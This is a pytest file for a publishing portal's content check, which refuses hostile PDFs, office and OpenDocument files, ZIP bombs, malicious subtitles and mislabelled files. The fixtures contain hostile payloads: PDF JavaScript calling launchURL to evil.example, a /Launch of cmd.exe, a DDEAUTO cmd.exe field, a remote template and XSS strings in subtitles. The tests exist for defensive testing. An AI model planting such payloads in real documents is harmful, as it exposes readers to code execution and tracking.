"""Documents and subtitles are opened before they are published (issue 8's hostile tester): a PDF
with JavaScript or actions, an office file with macros, OLE objects or parts fetched from
elsewhere, a ZIP bomb, a subtitle with a ``<script>``, and a file whose bytes are not its type are
each refused by ``portal check`` with ``path:line: what — how to fix it``; ordinary documents,
the shipped subtitles and a real JPEG pass."""

from __future__ import annotations

import zipfile

import pytest
from media_samples import (
    MP4,
    ODF_SPREADSHEET,
    VTT,
    odf,
    ooxml,
    pdf,
    pdf_with_object_stream,
    raster,
    safe_media,
)
from test_content_safety import assert_reported, problems_of

from generator.content import documents
from generator.content.documents import file_findings

from conftest import ROOT
from scratch import invoke

JS = "<< /S /JavaScript /JS (app.alert(1); app.launchURL('https://evil.example/x')) >>"
OLE = "application/vnd.openxmlformats-officedocument.oleObject"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def put(project, relative: str, data: bytes) -> str:
    path = project.root / "content" / relative
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    return f"content/{relative}"


HOSTILE = {
    # PDF: the tester's file, then each kind of script, action and attachment
    "pdf-open-action-javascript": ("plan.pdf", lambda: pdf("/OpenAction 4 0 R", JS), "JavaScript"),
    "pdf-javascript-in-object-stream": (
        "plan.pdf",
        lambda: pdf_with_object_stream(JS),
        "a JavaScript action",
    ),
    "pdf-open-action-uri-in-object-stream": (
        "plan.pdf",
        lambda: pdf_with_object_stream("<< /S /URI /URI (https://evil.example/) >>"),
        "an action run when it opens (/OpenAction /URI)",
    ),
    "pdf-javascript-outside-the-xref": ("plan.pdf", lambda: pdf(dead=JS), "has JavaScript"),
    "pdf-name-escaped": (
        "plan.pdf",
        lambda: pdf("/OpenAction 4 0 R", "<< /S /J#61vaScript /J#53 (app.alert(1)) >>"),
        "JavaScript",
    ),
    "pdf-launch": (
        "plan.pdf",
        lambda: pdf("/OpenAction 4 0 R", "<< /S /Launch /F (cmd.exe) >>"),
        "starts a program (/Launch)",
    ),
    "pdf-additional-actions": (
        "plan.pdf",
        lambda: pdf("", "<< /S /GoTo /D [3 0 R /Fit] >>", page="/AA << /O 4 0 R >> "),
        "(/AA)",
    ),
    "pdf-attachment": (
        "plan.pdf",
        lambda: pdf("/Names << /EmbeddedFiles 4 0 R >>", "<< /Names [(a.exe) 5 0 R] >>"),
        "attached files (/EmbeddedFiles)",
    ),
    "pdf-rich-media": (
        "plan.pdf",
        lambda: pdf("", "<< /Subtype /RichMedia >>", page="/Annots [4 0 R] "),
        "(/RichMedia)",
    ),
    "pdf-xfa": ("plan.pdf", lambda: pdf("/AcroForm << /XFA 4 0 R >>", "[]"), "XFA form"),
    "pdf-not-readable": ("plan.pdf", lambda: b"%PDF-1.7\nnothing\n", "cannot be read as a PDF"),
    # Office Open XML
    "docx-macro": (
        "plan.docx",
        lambda: ooxml(
            types='<Override PartName="/word/vbaProject.bin" '
            'ContentType="application/vnd.ms-office.vbaProject"/>',
            parts={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macro"},
        ),
        "holds word/vbaProject.bin",
    ),
    "docx-macro-content-type": (
        "plan.docx",
        lambda: ooxml(
            types='<Override PartName="/word/document2.xml" ContentType="application/'
            'vnd.ms-word.document.macroEnabled.main+xml"/>'
        ),
        "declares the content type application/vnd.ms-word.document.macroEnabled",
    ),
    "xlsx-macro-sheet": (
        "budget.xlsx",
        lambda: ooxml("xlsx", parts={"xl/macrosheets/sheet1.xml": b"<x/>"}),
        "holds xl/macrosheets/sheet1.xml",
    ),
    "docx-external-template": (
        "plan.docx",
        lambda: ooxml(
            relationships=f'<Relationship Id="rId9" Type="{REL}/attachedTemplate" '
            'Target="https://evil.example/t.dotm" TargetMode="External"/>'
        ),
        "links attachedTemplate to 'https://evil.example/t.dotm'",
    ),
    "docx-external-image": (
        "plan.docx",
        lambda: ooxml(
            relationships=f'<Relationship Id="rId9" Type="{REL}/image" '
            'Target="http://tracker.example/p.png" TargetMode="External"/>'
        ),
        'TargetMode="External"',
    ),
    "docx-ole-object": (
        "plan.docx",
        lambda: ooxml(
            types=f'<Default Extension="bin" ContentType="{OLE}"/>',
            parts={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"},
        ),
        "holds word/embeddings/oleObject1.bin",
    ),
    "docx-dde-field": (
        "plan.docx",
        lambda: ooxml(body='<w:fldSimple w:instr=" DDEAUTO c:\\\\windows\\\\cmd.exe x"/>'),
        "DDE field",
    ),
    "docx-doctype": (
        "plan.docx",
        lambda: ooxml(parts={"word/footer1.xml": b'<!DOCTYPE x [<!ENTITY a "b">]><x/>'}),
        "<!DOCTYPE>",
    ),
    # OpenDocument
    "odt-basic-macro": (
        "plan.odt",
        lambda: odf(parts={"Basic/Standard/Module1.xml": b"<module/>"}),
        "holds Basic/Standard/Module1.xml",
    ),
    "ods-script-in-manifest": (
        "budget.ods",
        lambda: odf(
            ODF_SPREADSHEET,
            manifest='<manifest:file-entry manifest:full-path="Scripts/python/x.py" '
            'manifest:media-type="application/binary"/>',
        ),
        "Scripts/python/x.py",
    ),
    "odt-event-listener": (
        "plan.odt",
        lambda: odf(
            body='<office:event-listeners><script:event-listener script:language="ooo:script" '
            'xlink:href="vnd.sun.star.script:Standard.Module1.Main"/></office:event-listeners>'
        ),
        "<event-listener>",
    ),
    "odt-ole-object": (
        "plan.odt",
        lambda: odf(body='<draw:frame><draw:object-ole xlink:href="./Object 1"/></draw:frame>'),
        "<object-ole>",
    ),
    "odt-linked-image": (
        "plan.odt",
        lambda: odf(
            body='<draw:frame><draw:image xlink:href="https://evil.example/p.png"/></draw:frame>'
        ),
        "<image> refers to 'https://evil.example/p.png'",
    ),
    "odt-wrong-mimetype": (
        "plan.odt",
        lambda: odf("application/vnd.oasis.opendocument.text-template"),
        "does not start with the mimetype application/vnd.oasis.opendocument.text",
    ),
    # bytes that are not the type the name says
    "pdf-that-is-a-zip": ("plan.pdf", lambda: ooxml(), "its bytes are a ZIP archive, not a PDF"),
    "docx-that-is-a-pdf": ("plan.docx", pdf, "its bytes are a PDF document, not a Word"),
    "mp4-that-is-html": (
        "video/clip.mp4",
        lambda: b"<!DOCTYPE html><script>alert(1)</script>",
        "its bytes are an HTML page, not an MP4 video",
    ),
    "webm-that-is-an-mp4": ("video/clip.webm", lambda: MP4, "its bytes are an MP4 video"),
    "vtt-without-signature": (
        "video/sub.vtt",
        lambda: b"00:00.000 --> 00:01.000\nhi\n",
        "not WebVTT subtitles (starting with WEBVTT)",
    ),
    "vtt-that-is-html": (
        "video/sub.vtt",
        lambda: b"<html><script>alert(1)</script></html>",
        "its bytes are an HTML page",
    ),
}


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_a_hostile_document_is_refused(project, name):
    relative, make, expected = HOSTILE[name]
    path = put(project, f"media/{relative}", make())
    assert_reported(problems_of(project), path, 1, f"media/{relative} ", expected)


VTT_CUES = "WEBVTT\n\n00:00.000 --> 00:04.000\nHưng Yên\n\n1\n00:04.000 --> 00:08.000\n"
HOSTILE_SUBTITLES = {
    "script": (VTT_CUES + "<script>alert(1)</script>\n", 8, "has '<script>' in a cue"),
    "img": (VTT_CUES + "fine\n<img src=x onerror=alert(1)>\n", 9, "has '<img src=x"),
    "unclosed-tag": (VTT_CUES + "<iframe src=//evil.example\n", 8, "has '<iframe"),
    "style-block": (
        "WEBVTT\n\nSTYLE\n::cue { background: url(https://evil.example/x.png) }\n\n" + VTT_CUES[8:],
        3,
        "has a STYLE block",
    ),
    "not-a-cue": (VTT_CUES + "text\n\n<b>no timing</b>\n", 10, "has a block that is not a cue"),
    "arrow-in-text": (VTT_CUES + "a --> b\n", 8, "has '-->' in a cue's text"),
}


@pytest.mark.parametrize("name", sorted(HOSTILE_SUBTITLES))
def test_subtitles_hold_only_webvtt_cue_tags(project, name):
    text, line, expected = HOSTILE_SUBTITLES[name]
    path = put(project, "media/video/sub-en.vtt", text.encode())
    assert_reported(problems_of(project), path, line, "media/video/sub-en.vtt ", expected)


def test_ordinary_documents_and_subtitles_pass(project):
    """Links a reader clicks, a jump to a page on opening, pictures inside the document, every
    WebVTT tag, and the shipped subtitles are what documents and videos normally hold."""
    files = {
        "media/link.pdf": pdf(
            "/OpenAction 4 0 R",
            "<< /S /GoTo /D [3 0 R /Fit] >>",
            "<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A 6 0 R >>",
            "<< /S /URI /URI (https://hungyen.gov.vn/) >>",
            page="/Annots [5 0 R] ",
        ),
        "media/link.docx": ooxml(
            relationships=f'<Relationship Id="rId9" Type="{REL}/hyperlink" '
            'Target="https://hungyen.gov.vn/" TargetMode="External"/>'
            f'<Relationship Id="rId8" Type="{REL}/image" Target="media/image1.png"/>',
            parts={"word/media/image1.png": raster("PNG")},
        ),
        "media/link.odt": odf(
            body='<text:p><text:a xlink:href="https://hungyen.gov.vn/">site</text:a></text:p>'
            '<draw:frame><draw:image xlink:href="Pictures/1.png"/></draw:frame>',
            parts={"Pictures/1.png": raster("PNG")},
        ),
        "media/video/all-tags.vtt": VTT.encode(),
        **{
            f"media/video/{p.name}": p.read_bytes()
            for p in (ROOT / "content/media/video").glob("*.vtt")
        },
        **{f"media/docs/file{s}": safe_media(s) for s in (".pdf", ".xlsx", ".ods", ".webm")},
    }
    for relative, data in files.items():
        put(project, relative, data)
    assert problems_of(project) == []
    assert len(list((ROOT / "content/media/video").glob("*.vtt"))) == 6


def test_the_shipped_media_pass():
    shipped = [p for p in (ROOT / "content/media").rglob("*") if p.is_file()]
    assert len(shipped) >= 10
    assert {str(p): file_findings(p) for p in shipped} == {str(p): [] for p in shipped}


def test_an_html_page_named_jpg_is_refused_by_portal_check(project):
    """Raster images are judged by the image pipeline, which decodes each one in the check, named
    by a field or not; the byte sniffing leaves them to it."""
    path = put(project, "media/photos/evil.jpg", b"<html><script>alert(1)</script></html>")
    check = invoke(project, "check")
    assert check.exit_code == 1
    assert f"{path}:1: the image 'media/photos/evil.jpg' cannot be decoded" in check.stderr
    put(project, "media/photos/evil.jpg", raster("JPEG"))
    assert invoke(project, "check").exit_code == 0


def test_a_zip_bomb_is_refused_from_its_directory(tmp_path, monkeypatch):
    """Entries and uncompressed bytes are counted from the archive's directory, before anything
    is inflated."""
    crowded = tmp_path / "crowded.docx"
    with zipfile.ZipFile(crowded, "w") as archive:
        for n in range(documents.MAX_ARCHIVE_ENTRIES + 1):
            archive.writestr(f"word/media/{n}.xml", b"")
    assert "holds 10001 entries" in file_findings(crowded)[0].what

    inflated: list[str] = []
    monkeypatch.setattr(documents, "_ooxml_findings", lambda archive: inflated.append("read"))
    bomb = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as entry:
            block = bytes(1 << 20)
            for _ in range(documents.MAX_ARCHIVE_BYTES // len(block) + 1):
                entry.write(block)
    assert bomb.stat().st_size < 2_000_000
    found = file_findings(bomb)
    assert "bytes uncompressed (limits: 10,000 entries, 300,000,000 bytes)" in found[0].what
    assert found[0].fix.startswith("publish it as a PDF")
    assert inflated == []


def test_portal_check_refuses_the_testers_files(project):
    """The three files that passed ``portal check`` before (the build refuses them too:
    test_content_safety.py's refused build)."""
    files = {
        "media/plan.pdf": pdf("/OpenAction 4 0 R", JS),
        "media/plan.docx": ooxml(
            types='<Override PartName="/word/vbaProject.bin" '
            'ContentType="application/vnd.ms-office.vbaProject"/>',
            parts={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macro"},
        ),
        "media/video/sub.vtt": (VTT_CUES + "<script>alert(1)</script>\n").encode(),
    }
    paths = [put(project, relative, data) for relative, data in files.items()]
    check = invoke(project, "check")
    assert check.exit_code == 1
    for path, expected in zip(
        paths,
        [":1: media/plan.pdf has JavaScript", ":1: media/plan.docx holds word/vbaProject.bin", ""],
        strict=True,
    ):
        assert f"{path}{expected}" in check.stderr, check.stderr
    assert f"{paths[2]}:8: media/video/sub.vtt has '<script>' in a cue" in check.stderr
    assert "export the PDF again without scripts" in check.stderr


def test_pdf_objects_are_read_through_pypdf_and_bytes_scanned(tmp_path):
    """Each net catches what the other cannot see: JavaScript compressed in an object stream
    (only pypdf), and an object the cross-reference table does not list (only the byte scan)."""
    hidden = tmp_path / "hidden.pdf"
    hidden.write_bytes(pdf_with_object_stream(JS))
    assert b"JavaScript" not in hidden.read_bytes()
    assert documents._pdf_raw_findings(hidden.read_bytes()) == []
    assert "JavaScript" in documents._pdf_object_findings(hidden)[0][0]
    dead = tmp_path / "dead.pdf"
    dead.write_bytes(pdf(dead=JS))
    assert documents._pdf_object_findings(dead) == ([], [])
    assert documents._pdf_raw_findings(dead.read_bytes()) == ["JavaScript"]
